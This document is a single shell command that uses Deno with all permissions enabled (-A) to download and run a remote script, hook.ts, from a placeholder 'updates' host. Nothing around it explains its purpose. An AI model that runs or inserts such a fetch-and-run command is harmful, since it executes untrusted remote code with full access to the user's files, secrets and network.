deno run -A https://updates.example.com/hook.ts
